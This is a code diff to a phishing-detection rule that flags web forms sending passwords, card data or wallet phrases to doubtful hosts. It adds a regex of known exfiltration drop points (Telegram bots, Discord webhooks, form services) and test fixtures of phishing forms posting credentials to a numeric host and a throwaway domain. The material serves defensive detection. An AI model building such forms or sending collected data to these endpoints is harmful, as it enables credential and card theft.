@@ -11,7 +11,7 @@ import { BICYCLE, CHLEB, LIBRARY } from '../../samples/sample-prose.ts';
 import { examplePage, paragraphs } from '../example.ts';
 import { type Quote, quoteText, quoteWhole } from '../quote.ts';
 import { quoteAct } from '../quote-script.ts';
-import { CLEAR, rule } from '../rule.ts';
+import { abstain, CLEAR, rule } from '../rule.ts';
 import { type Said, sentences } from '../sentences.ts';
 import type { Texts } from '../texts.ts';
 import { quoted, shortened } from '../wording.ts';
@@ -28,6 +28,7 @@ const DROP =
   /api\.telegram\.org\/bot|discord(?:app)?\.com\/api\/webhooks|formspree\.io|emailjs|getform\.io|web3forms|hooks\.slack\.com/i;
 const LOG_IN =
   /log ?[io]n|sign ?[io]n|verify|verification|confirm your|account|secure|unlock|zaloguj|logowanie|weryfikacj|potwierdź|konto|konta|connexion|connecter|iniciar ses|acceder|anmeld|einlogg|accedi|accesso|entrar|вход|войти|přihl|inlog|logga in|giriş|ログイン|登录/i;
+const SENT_TO_BOT = 0.95;
 /** Beside a brand's name a page with a text of its own is an article with a login box. */
 const MAX_WORDS = 200;
 /** So few are labels and a line of welcome, whatever the title says. */
@@ -80,7 +81,7 @@ export default rule({
   policy: 'social_engineering',
   kind: 'violation',
   layer: 'markup',
-  version: 4,
+  version: 5,
   title: {
     en: 'A form sends sensitive data to a doubtful place',
     pl: 'Formularz wysyła poufne dane w wątpliwe miejsce',
@@ -93,20 +94,20 @@ export default rule({
   sources: ['SE', 'QR§4.5.5'],
   judges: ['code'],
   languages: 'any',
-  needs: { url: true },
   basis: 'measured',
   scoring:
-    'A form that asks for card, PIN, identity or bank data and is sent to another registrable domain: 0.95, for a password: 0.85; sent over plain HTTP from an HTTPS page: 0.8; typed-in data sent by script to a message bot: 0.95, to another site: 0.8; a login under the name or the copyright line of a well-known brand on a strange host: 0.85, under its logo alone: 0.6; a field for the recovery phrase of a crypto wallet: 0.85. Payment, sign-in and other known services, sites of the same brand (for a password also of an abbreviation that the page calls itself by) and sites that the page openly links to three times do not count; plain HTTP all through: 0.4.',
+    'A form that asks for card, PIN, identity or bank data and is sent to another registrable domain: 0.95, for a password: 0.85; sent over plain HTTP from an HTTPS page: 0.8; typed-in data sent by script to a message bot: 0.95, to another site: 0.8; a login under the name or the copyright line of a well-known brand on a strange host: 0.85, under its logo alone: 0.6; a field for the recovery phrase of a crypto wallet: 0.85. Payment, sign-in and other known services, sites of the same brand (for a password also of an abbreviation that the page calls itself by) and sites that the page openly links to three times do not count; plain HTTP all through: 0.4. Of a page whose own address is unknown only the target of the form speaks: a public host in numbers counts as another domain, a host that nothing else on the page names 0.6, and what scripts send to message bots counts in full; without any of that there is no answer.',
   says: say,
   detect(page) {
+    const isPlaced = page.address !== undefined;
     const signs = [
-      ...forms(page).flatMap((form) => formSigns(page, form)),
-      ...scriptSigns(page),
+      ...forms(page).flatMap((form) => (isPlaced ? formSigns(page, form) : targetSigns(page, form))),
+      ...scriptSigns(page).filter(({ score }) => isPlaced || score >= SENT_TO_BOT),
       ...brandSigns(page),
       ...phraseSigns(page),
     ].sort((a, b) => b.score - a.score);
     const worst = signs[0];
-    if (!worst) return CLEAR;
+    if (!worst) return isPlaced ? CLEAR : abstain('needs_fetch');
     return {
       score: worst.score,
       quotes: signs.slice(0, 3).map((sign) => sign.quote),
@@ -162,6 +163,16 @@ export default rule({
         url: 'https://odbior-przesylki.top/platnosc',
         body: '<form method="post" action="dalej.php"><label>Kod BLIK <input type="tel" name="blikCode"></label><button>Dalej</button></form>',
       }),
+      {
+        note: 'a pasted page that sends its password to a host in numbers',
+        html: '<title>Sign in</title><h1>Sign in to your mailbox</h1><form method="post" action="http://203.0.113.7/in.php"><input name="user"><input type="password" name="pass"><button>Next</button></form>',
+        found: { says: ['sends_away'], quotes: ['http://203.0.113.7/in.php'] },
+      },
+      {
+        note: 'a pasted Polish page that sends card data to a host that nothing else on it names',
+        html: '<html lang="pl"><title>Dopłata do paczki</title><h1>Dopłata do paczki</h1><p>Dopłać 1,99 zł.</p><form method="post" action="https://zbior-danych.top/p"><input name="cardnumber" autocomplete="cc-number"><input name="cvv"><button>Zapłać</button></form>',
+        found: { says: ['sends_away'], quotes: ['https://zbior-danych.top/p'] },
+      },
       examplePage('the words of a wallet', {
         found: { says: ['asks_for_phrase'], quotes: ['recovery phrase'] },
         title: 'Connect wallet',
@@ -247,6 +258,40 @@ function formSigns(page: Page, form: Form): Sign[] {
   ];
 }
 
+const UNNAMED_HOST = 0.6;
+const ADDRESS_IN_NUMBERS = /^(?:\d{1,3}(?:\.\d{1,3}){3}|\[[0-9a-f:.]+\])$/i;
+/** Routers, servers at home and the machine itself. */
+const PRIVATE_ADDRESS =
+  /^(?:(?:0|10|127)\.|169\.254\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|\[(?:::1?\]|f[cde]))/i;
+
+/** Nobody knows where the page stands: whether it sends data away can only be told by where it sends them. */
+function targetSigns(page: Page, form: Form): Sign[] {
+  const asked = sensitiveOf(form.fields);
+  const target = asked === undefined ? undefined : foreignTarget(page, form.action, 'hosts');
+  if (asked === undefined || !target || PRIVATE_ADDRESS.test(target.host)) return [];
+  const inNumbers = ADDRESS_IN_NUMBERS.test(target.host);
+  // A saved page of the site itself names its site in links, pictures or scripts, too.
+  if (!inNumbers && isNamedElsewhere(page, form, target.site)) return [];
+  return [
+    {
+      score: inNumbers ? (asked === 'password' ? 0.85 : 0.95) : UNNAMED_HOST,
+      says: say.sends_away({ asked, site: target.site }),
+      quote: quoteWhole(page, { in: 'attribute', element: form.element, name: 'action' }),
+    },
+  ];
+}
+
+function isNamedElsewhere(page: Page, { element: own }: Form, site: string): boolean {
+  return page.dom.elements.some(
+    ({ attribs, name }, number) =>
+      number !== own &&
+      name !== 'form' &&
+      [attribs.href, attribs.src, attribs.content, attribs.srcset].some((value) =>
+        value?.toLowerCase().includes(site),
+      ),
+  );
+}
+
 /** Menus and footers lead to the sister site that signs people in; nobody links to where stolen passwords go. */
 const MIN_OPEN_LINKS = 3;
 
@@ -292,7 +337,7 @@ function scriptSigns(page: Page): Sign[] {
       if (!reads || (!drop && !target)) continue;
       const site = target?.site ?? URL.parse(address)?.hostname ?? '';
       signs.push({
-        score: drop ? 0.95 : 0.8,
+        score: drop ? SENT_TO_BOT : 0.8,
         says: say.script_sends({ asked, site }),
         quote: quoteAct(page, piece, act),
       });
